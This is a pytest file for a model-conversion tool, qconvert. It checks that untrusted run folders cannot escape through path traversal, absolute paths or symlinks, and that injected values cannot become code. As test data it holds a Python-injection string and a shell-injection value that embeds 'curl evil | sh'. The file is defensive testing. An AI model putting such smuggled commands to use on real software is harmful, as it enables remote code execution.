"""A run folder that somebody else made: it is read, and leads to nothing outside of it."""

import ast
import json
import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from qconvert.core import cache
from qconvert.core.errors import QConvertError, UsageError
from qconvert.core.tensors import TensorSpec
from qconvert.package.bundle import make_bundle
from qconvert.package.onnxruntime_folder import run_script
from qconvert.package.pack import PackageOptions, write_package
from qconvert.report import json_file
from qconvert.run import built_engines
from qconvert.run.finished_run import load_run
from qconvert.run.report_files import report_images
from qconvert.run.run_folder import RunFolder
from qconvert.run.targets import resolve
from tests.conftest import Outcome

ENGINE = Path("run/engines/cpu-int8")
HOSTILE = '"]); raise SystemExit("ran") #'


def rewritten(**changed: Any) -> None:
    told = json.loads((ENGINE / "engine.json").read_text())
    (ENGINE / "engine.json").write_text(json.dumps({**told, **changed}))


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"files": []}, "names no files"),
        ({"files": ["../../run.toml"]}, "is no file in it"),
        ({"files": ["/etc/hostname"]}, "is no file in it"),
        ({"files": ["..", "."]}, "is no file in it"),
        ({"files": ["gone.onnx"]}, "is no file in it"),
        ({"graph": "../cpu-fp32/model.onnx"}, "is no file in it"),
        ({"files": "model.onnx"}, "files: "),
        ({"files": [3]}, "files"),
        ({"made_with": {"runtime": 3}}, "made_with"),
        ({"threads": "many"}, "threads"),
        ({"backend": "os"}, "no backend `os`"),
        ({"precision": "int9"}, "precision"),
        ({"build_seconds": "long"}, "holds no engine"),
    ],
)
def test_an_engine_names_files_of_its_own_folder_only(
    changed: dict[str, Any], said: str, world: Path
) -> None:
    rewritten(**changed)
    with pytest.raises(QConvertError, match="holds no engine") as caught:
        built_engines.read_engine(ENGINE)
    assert said in str(caught.value)
    for place in (Path("run"), ENGINE):
        with pytest.raises(QConvertError, match="holds no engine"):
            resolve([place])


@pytest.mark.parametrize("form", ["onnxruntime", "triton"])
def test_a_package_takes_nothing_from_elsewhere(form: Any, world: Path) -> None:
    Path("secret").write_text("secret")
    rewritten(files=["../../../secret"], graph="../../../secret")
    with pytest.raises(QConvertError, match="is no file in it"):
        write_package(load_run(Path("run")), PackageOptions(form, Path("out/pack"), "cpu-int8"))
    assert not Path("out").exists()


def test_a_package_name_stays_in_its_folder(world: Path) -> None:
    for name in ("..", "../x", "/x", "a/b", ".", "a\nb", "a;b"):
        with pytest.raises(UsageError, match="cannot be the name of a folder"):
            write_package(
                load_run(Path("run")), PackageOptions("triton", Path("out"), "cpu-int8", name)
            )
    assert not Path("out").exists()


def test_no_name_of_a_model_or_an_engine_becomes_code(world: Path) -> None:
    found = make_bundle(load_run(Path("run")), "cpu-int8")
    (ENGINE / HOSTILE).write_bytes(b"")
    told = replace(
        found,
        engine=replace(found.engine, files=(HOSTILE,)),
        outputs=(TensorSpec(HOSTILE, np.dtype("float32"), ("N", 24)),),
    )
    from qconvert.backends import cpu

    program = run_script(told, cpu.load_spec(told.engine))
    words = {each.value for each in ast.walk(ast.parse(program)) if isinstance(each, ast.Constant)}
    assert HOSTILE in words
    assert not [each for each in ast.walk(ast.parse(program)) if isinstance(each, ast.Raise)]


def test_what_an_engine_was_made_with_becomes_no_command_of_a_shell(world: Path) -> None:
    rewritten(made_with={"runtime": 'x"; curl evil | sh #'})
    with pytest.raises(UsageError, match="no package and its release"):
        write_package(
            load_run(Path("run")), PackageOptions("onnxruntime", Path("pack"), "cpu-int8")
        )
    assert not Path("pack").exists()


@pytest.mark.parametrize("folder", ["engines", "calibration", "analysis", "engines/cpu-int8"])
def test_a_run_whose_folders_are_links_to_elsewhere_is_refused(
    folder: str, world: Path, qconvert: Callable[..., Outcome]
) -> None:
    place = Path("run") / folder
    Path("elsewhere").mkdir()
    place.rename("elsewhere/moved")
    place.symlink_to(Path("elsewhere/moved").absolute())
    before = sorted(os.fspath(path) for path in Path("elsewhere").rglob("*"))
    for args in (
        ("bench", "run"),
        ("build", "--from", "run"),
        ("evaluate", "run", "--eval", "val"),
    ):
        done = qconvert(*args)
        assert done.code == 2
        assert "is a link that leads out of the run" in done.err
    assert sorted(os.fspath(path) for path in Path("elsewhere").rglob("*")) == before


def test_a_link_to_the_run_itself_is_no_matter(world: Path) -> None:
    Path("latest").symlink_to("run")
    assert RunFolder(Path("latest")).settings().model is not None


@pytest.mark.parametrize("name", ["../secret.png", "/etc/hostname", "link.png"])
def test_pictures_that_a_report_names_elsewhere_are_not_shown(name: str, world: Path) -> None:
    Path("secret.png").write_bytes(b"secret")
    Path("run/link.png").symlink_to(Path("secret.png").absolute())
    Path("run/own.png").write_bytes(b"own")
    told = json.loads(Path("run/report.json").read_text())
    told["evidence"]["feature_maps"] = []
    told["evidence"]["thumbnails"] = [
        {"image": "a", "picture": name},
        {"image": "b", "picture": "own.png"},
    ]
    Path("run/report.json").write_text(json.dumps(told))
    report = json_file.load(Path("run/report.json"))
    assert report_images(report, Path("run")) == {"own.png": b"own"}


def test_an_engine_of_a_stranger_is_tried_once(world: Path) -> None:
    resolve([ENGINE])
    kept = [each.step for each in cache.open_default().entries()]
    assert "rehearse" in kept
    resolve([ENGINE])
    assert [each.step for each in cache.open_default().entries()] == kept
